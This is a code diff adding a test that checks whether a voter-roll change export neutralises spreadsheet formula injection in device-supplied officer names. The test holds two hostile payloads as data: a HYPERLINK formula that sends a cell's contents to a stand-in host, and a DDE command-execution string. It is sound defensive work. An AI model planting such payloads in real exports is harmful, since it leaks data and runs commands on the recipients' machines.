@@ -135,6 +135,31 @@ def test_changes_conflicts_and_export(live_server: LiveServer, tmp_path: pathlib
     assert out.read_bytes() == before
 
 
+def test_export_changes_quotes_device_text_that_would_be_a_formula(
+    live_server: LiveServer, tmp_path: pathlib.Path
+) -> None:
+    """A laptop chooses the officer's name it pushes: it must not run as a formula in the
+    spreadsheet KPU opens the export in."""
+    hyperlink = '=HYPERLINK("http://x/?"&B9,"Klik")'
+    dev = live_server.device()
+    vid = live_server.voter_id(0)
+    nama = live_server.voter_row(vid)["nama"]
+    correction = dev.change("ubah", vid, {"changes": {"nama": "A"}, "original": {"nama": nama}})
+    correction["officer"] = hyperlink
+    unknown = dev.change("sesuai", "0" * 32)
+    unknown["officer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    dev.push([correction, unknown])
+    out = tmp_path / "changes.csv"
+    exported = cli("export-changes", out, db=live_server.db)
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
+    by_seq = {int(r["seq"]): r for r in rows}
+    assert by_seq[correction["seq"]]["officer"] == "'" + hyperlink
+    assert by_seq[unknown["seq"]]["officer"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def test_release_gap(live_server: LiveServer) -> None:
     db = live_server.db
     dev = live_server.device()
